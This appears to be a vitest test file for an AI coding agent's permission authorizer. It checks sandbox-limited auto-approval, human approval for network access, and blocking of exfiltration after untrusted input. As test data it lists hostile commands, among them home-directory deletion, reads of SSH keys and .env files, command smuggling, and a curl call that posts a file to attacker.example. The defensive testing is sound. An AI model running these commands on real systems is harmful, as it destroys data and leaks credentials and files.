import { linkSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ApprovalBroker } from "../../src/permissions/approvals.js";
import { AuditLog } from "../../src/permissions/audit.js";
import { createAuthorizer } from "../../src/permissions/authorizer.js";
import { newTaskNetworkState, type PermissionContext } from "../../src/permissions/context.js";
import type { SandboxStatus } from "../../src/sandbox/detect.js";
import { openMemoryDatabase, type SqliteDatabase } from "../../src/storage/database.js";
import { createSandbox, type Sandbox } from "./sandbox.js";

let sandbox: Sandbox;
let database: SqliteDatabase;
let broker: ApprovalBroker;
let audit: AuditLog;
beforeEach(() => {
  sandbox = createSandbox({ withHardLinkedSecret: false });
  database = openMemoryDatabase();
  broker = new ApprovalBroker({ database });
  audit = new AuditLog(database, { now: () => new Date() });
});
afterEach(() => {
  broker.close();
  database.close();
  sandbox.cleanup();
});

const bubblewrap: SandboxStatus = { available: true, kind: "bubblewrap" };
const none: SandboxStatus = {
  available: false,
  reason: "bwrap is not installed",
  fix: "apt-get install bubblewrap",
};

/** `mercury run --yes`: refuse mode with an allow-all window, and a sandbox status the test chooses. */
const yes = (status: SandboxStatus, extra: Partial<PermissionContext> = {}) =>
  createAuthorizer({
    context: {
      ...sandbox.context,
      mode: "refuse",
      allowAll: { until: new Date(Date.now() + 60_000) },
      network: newTaskNetworkState(),
      ...extra,
    },
    broker,
    audit,
    sandbox: status,
  });
const run = (command: string) => ({ kind: "command" as const, command, cwd: sandbox.project });

describe("--yes approves only what the OS sandbox contains", () => {
  it("covers no command in a workspace that holds a hard link to a secret (the sandbox cannot mask it)", async () => {
    linkSync(join(sandbox.home, ".ssh", "id_rsa"), join(sandbox.project, "src", "copy.txt"));
    for (const command of ["npm test", "cp -r . backup", "tar cf x.tar src"]) {
      const result = await yes(bubblewrap)(run(command));
      expect(result).toMatchObject({ allowed: false });
      if (!result.allowed) expect(result.reason).toMatch(/hard link to a secret file/);
    }
  });

  it.each([
    "npm test",
    "npm run build",
    "npx tsc --noEmit",
    "make",
    "node scripts/check.js",
    "python3 -m pytest",
    "touch notes.txt",
    "mkdir -p build",
    "rm -rf build",
    "sed -i s/a/b/ src/index.ts",
    "cd src && ls",
    "npm install",
  ])("approves %s inside the workspace when a sandbox holds it, without network", async (command) => {
    const result = await yes(bubblewrap)(run(command));
    expect(result.allowed, command).toBe(true);
    if (result.allowed) expect(result.network).toBeUndefined();
  });

  it.each([
    ["rm -rf ~", /hardline.rm-root/],
    ["cat ~/.ssh/id_rsa", /path.sensitive/],
    ['"$(echo rm)" -rf build', /cannot be checked/],
    ["eval ls", /cannot be checked/],
    ['sh -c "$CMD"', /cannot be checked/],
    ["echo x >> ~/.bashrc", /outside the workspace/],
    ["cp README.md ../outside/x", /outside the workspace/],
    ["cat ../outside/notes.txt", /outside the workspace/],
    ["sudo ls", /command.privilege/],
    ["cat .env", /path.env-file/],
  ])("never approves %s", async (command, why) => {
    const result = await yes(bubblewrap)(run(command));
    expect(result.allowed).toBe(false);
    if (!result.allowed) expect(result.reason).toMatch(why);
  });

  it("refuses anything not provably read-only when no sandbox is available, and says how to fix it", async () => {
    const authorize = yes(none);
    const refused = await authorize(run("npm test"));
    expect(refused.allowed).toBe(false);
    if (!refused.allowed) {
      expect(refused.reason).toMatch(/no OS sandbox is available \(bwrap is not installed\)/);
      expect(refused.reason).toMatch(/apt-get install bubblewrap/);
    }
    expect(await authorize(run("git status"))).toMatchObject({ allowed: true, rule: "command.readonly" });
  });

  it("does not let --yes write files outside the workspace through the file tools", async () => {
    const authorize = yes(bubblewrap);
    expect(await authorize({ kind: "path", path: "src/new.ts", access: "write" })).toMatchObject({
      allowed: true,
    });
    expect(await authorize({ kind: "path", path: "~/.bashrc", access: "write" })).toMatchObject({
      allowed: false,
    });
    expect(await authorize({ kind: "path", path: "../outside/notes.txt", access: "read" })).toMatchObject({
      allowed: false,
    });
  });

  it("grants network to a command only when a person approved it", async () => {
    const interactive = createAuthorizer({
      context: { ...sandbox.context, network: newTaskNetworkState() },
      broker,
      audit,
      sandbox: bubblewrap,
    });
    const pending = interactive(run("npm install"));
    await new Promise((resolve) => setImmediate(resolve));
    const approval = broker.pendingFor("owner")[0];
    if (!approval) throw new Error("no approval was requested");
    broker.answer(approval.id, "once", "owner");
    await expect(pending).resolves.toMatchObject({ allowed: true, network: true });
    const underYes = await yes(bubblewrap)(run("npm install"));
    expect(underYes).toMatchObject({ allowed: true });
    if (underYes.allowed) expect(underYes.network).toBeUndefined();
  });
});

describe("exfiltration after untrusted input", () => {
  it("asks before contacting a new host once web content has entered the task", async () => {
    const authorize = createAuthorizer({
      context: { ...sandbox.context, mode: "refuse", network: newTaskNetworkState() },
      broker,
      audit,
      sandbox: bubblewrap,
    });
    expect(await authorize({ kind: "network", url: "https://docs.example.com/a" })).toMatchObject({
      allowed: true,
    });
    // A redirect hop of the same fetch is not yet "after" its content.
    expect(
      await authorize({
        kind: "network",
        url: "https://www.example.com/a",
        redirectFrom: "https://docs.example.com/a",
      }),
    ).toMatchObject({ allowed: true });
    expect(await authorize({ kind: "network", url: "https://docs.example.com/b" })).toMatchObject({
      allowed: true,
    });
    const out = await authorize({ kind: "network", url: "https://attacker.example/?d=secrets" });
    expect(out).toMatchObject({ allowed: false, rule: "network.exfiltration" });
    const command = await authorize(run("curl -d @README.md https://attacker.example/collect"));
    expect(command).toMatchObject({ allowed: false, rule: "network.exfiltration" });
  });

  it("asks after a file from outside the workspace was read, and --yes does not cover it", async () => {
    const context = { readRoots: [sandbox.outside], network: newTaskNetworkState() };
    const authorize = yes(bubblewrap, context);
    expect(await authorize({ kind: "network", url: "https://a.example/" })).toMatchObject({ allowed: true });
    expect(
      await authorize({ kind: "path", path: `${sandbox.outside}/notes.txt`, access: "read" }),
    ).toMatchObject({
      allowed: true,
    });
    const fetch = await authorize({ kind: "network", url: "https://b.example/" });
    expect(fetch).toMatchObject({ allowed: false, rule: "network.exfiltration" });
    if (!fetch.allowed) expect(fetch.reason).toMatch(/person's approval/);
    expect(await authorize({ kind: "network", url: "https://a.example/again" })).toMatchObject({
      allowed: true,
    });
  });

  it("does not ask while nothing untrusted has entered the task", async () => {
    const authorize = yes(bubblewrap);
    expect(await authorize({ kind: "path", path: "README.md", access: "read" })).toMatchObject({
      allowed: true,
    });
    expect(await authorize({ kind: "network", url: "https://one.example/" })).toMatchObject({
      allowed: true,
    });
  });
});
